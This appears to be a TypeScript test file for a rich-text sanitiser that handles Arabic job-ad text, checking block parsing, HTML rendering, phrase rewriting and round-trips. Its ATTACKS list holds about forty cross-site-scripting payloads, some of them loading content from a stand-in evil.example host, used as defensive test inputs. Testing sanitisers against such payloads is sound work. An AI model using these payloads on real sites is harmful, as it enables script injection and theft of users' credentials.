import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { blocksOfHtml, blocksOfText, htmlOf, plainTextOf, rewrittenBlocks, textOf } from './blocks.ts';
import { richTextOf } from './sanitise.server.ts';

test('plain lines read as headings, paragraphs and lists', () => {
  expect(blocksOfText('نبحث عن محلل.\nفي الرياض.\n\nالمهام:\n- الأولى\n• الثانية\n\n1. رقم\nخاتمة <b>')).toEqual([
    { kind: 'paragraph', runs: [{ text: 'نبحث عن محلل.\nفي الرياض.' }] },
    { kind: 'heading', runs: [{ text: 'المهام' }] },
    { kind: 'list', is_ordered: false, items: [[{ text: 'الأولى' }], [{ text: 'الثانية' }]] },
    { kind: 'list', is_ordered: true, items: [[{ text: 'رقم' }]] },
    { kind: 'paragraph', runs: [{ text: 'خاتمة <b>' }] },
  ]);
  fc.assert(fc.property(fc.string(), (text) => Array.isArray(blocksOfText(text))));
});

describe('markup', () => {
  test('keeps emphasis, headings and lists, each block with its own direction', () => {
    const typed =
      '<h1>المهام</h1><p>نبني <b>مسارات</b> <i>البيانات</i><br>كل يوم</p><ul><li><p>الأولى</p><ul><li>داخلها</li></ul></li><li>الثانية</li></ul><ol><li>One</li></ol>';
    const { html, text } = richTextOf(typed);
    expect(html).toBe(
      '<h3 dir="auto">المهام</h3><p dir="auto">نبني <strong>مسارات</strong> <em>البيانات<br></em>كل يوم</p><ul dir="auto"><li>الأولى</li><li>داخلها</li><li>الثانية</li></ul><ol dir="auto"><li>One</li></ol>',
    );
    expect(text).toBe('المهام:\nنبني مسارات البيانات\nكل يوم\n\n- الأولى\n- داخلها\n- الثانية\n\n1. One');
    expect(plainTextOf(html!)).toBe(text);
  });

  test('that says no more than plain lines is not kept beside them', () => {
    expect(richTextOf('<p>سطر أول</p><h2>المهام</h2><ul><li>الأولى</li></ul>')).toEqual({
      text: 'سطر أول\n\nالمهام:\n- الأولى',
      html: null,
    });
    expect(richTextOf('<p></p><p> <br></p>')).toEqual({ text: '', html: null });
  });

  test('read and written again is the same', () => {
    const word = fc.stringMatching(/^[a-zء-ي<&>"]{1,6}$/);
    const run = fc.record({ text: word, strong: fc.boolean(), em: fc.boolean() }).map(({ text, strong, em }) => ({
      text,
      ...(strong ? { strong: true as const } : {}),
      ...(em ? { em: true as const } : {}),
    }));
    const runs = fc.array(run, { minLength: 1, maxLength: 4 });
    const block = fc.oneof(
      fc.record({ kind: fc.constantFrom('paragraph' as const, 'heading' as const), runs }),
      fc.record({
        kind: fc.constant('list' as const),
        is_ordered: fc.boolean(),
        items: fc.array(runs, { minLength: 1, maxLength: 3 }),
      }),
    );
    fc.assert(
      fc.property(fc.array(block, { maxLength: 5 }), (blocks) => {
        const html = htmlOf(blocksOfHtml(htmlOf(blocks)));
        expect(htmlOf(blocksOfHtml(html))).toBe(html);
        const { html: kept, text } = richTextOf(html);
        expect(kept === null ? htmlOf(blocksOfText(text)) : kept).toBe(html);
      }),
    );
  });
});

test('a phrase is said otherwise where it stands, across emphasis and in the right place', () => {
  const blocks = blocksOfHtml('<p>للذكور فقط، و<strong>للذكور</strong> فقط</p><ul><li>للذكور فقط</li></ul>');
  const after = (nth: number, by: string) => htmlOf(rewrittenBlocks(blocks, 'للذكور فقط', nth, by));
  expect(after(0, 'للجميع')).toContain('>للجميع، و<strong>للذكور</strong> فقط</p>');
  expect(after(1, 'للجميع')).toContain('للذكور فقط، و<strong>للجميع</strong></p>');
  expect(after(2, '')).not.toContain('<ul');
  expect(after(3, 'x')).toBe(htmlOf(blocks));
});

/** What people have tried against editors and sanitisers; none may leave a tag, an attribute or a scheme. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x`" `onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><p onclick=alert(1)>x</p></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p onmouseover="alert(1)" style="background:url(javascript:alert(1))">نص</p>',
  '<p dir="rtl" dir="ltr" onclick=alert(1)>text</p>',
  '<strong><a href="javascript:alert(1)">اضغط</a></strong>',
  '<a href="jAvAsCrIpT&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=x>',
  '<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css><style>@import "//evil.example"</style>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee><isindex type=image src=1 onerror=alert(1)>',
  '<template><script>alert(1)</script></template><x-foo onfocus=alert(1) tabindex=1>x</x-foo>',
  '<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>',
  '<!--[if gte mso 9]><xml><o:p><script>alert(1)</script></o:p></xml><![endif]-->',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<p>&#x3c;script&#x3e;alert(1)&#60;/script&#62;</p>',
  '<\u0000script>alert(1)</script>',
  '<p\u0000 onclick=alert(1)>x</p>',
  '<p/onclick=alert(1)/>x',
  '<p "=">"><img src=x onerror=alert(1)></p>',
  '<p title="a>b" onclick="alert(1)">x</p>',
  '<strong',
  '</p></div></body><script>alert(1)</script>',
  '<h3><h3 onclick=alert(1)>x</h3>',
  '<ul><li onclick=alert(1)>x<li><script>alert(1)</script></ul>',
  '<p>\u202Eنص مقلوب\u202C و\u2066معزول\u2069 و&#x202E;مرمّز</p>',
  '\uD800<p>x</p>',
  `${'<ul><li>'.repeat(500)}<script>alert(1)</script>`,
];
const ONLY_OURS = /^(?:<(?:p|h3|ul|ol) dir="auto">|<\/(?:p|h3|ul|ol|li|strong|em)>|<(?:li|br|strong|em)>|[^<>])*$/u;

describe('what an attacker sends', () => {
  test('leaves only words', () => {
    const around = (attack: string) => [attack, `<p>قبل</p>${attack}<p>after</p>`, `<ul><li>${attack}</li></ul>`];
    const shownOf = ({ text, html }: ReturnType<typeof richTextOf>) => html ?? htmlOf(blocksOfText(text));
    const isHarmless = (sent: string) => {
      const kept = richTextOf(sent);
      const shown = shownOf(kept);
      // Sanitised again, nothing is left to take away.
      const isSettled = shownOf(richTextOf(shown)) === shown;
      return ONLY_OURS.test(shown) && isSettled && !/[\u202A-\u202E\u2066-\u2069\u0000]/u.test(kept.text);
    };
    expect(ATTACKS.flatMap(around).filter((sent) => !isHarmless(sent))).toEqual([]);
  });

  test('the reader of markup alone makes no markup of anything', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.constantFrom(...ATTACKS)), (sent) => {
        expect(htmlOf(blocksOfHtml(sent))).toMatch(ONLY_OURS);
        expect(typeof textOf(blocksOfHtml(sent))).toBe('string');
      }),
    );
  });
});
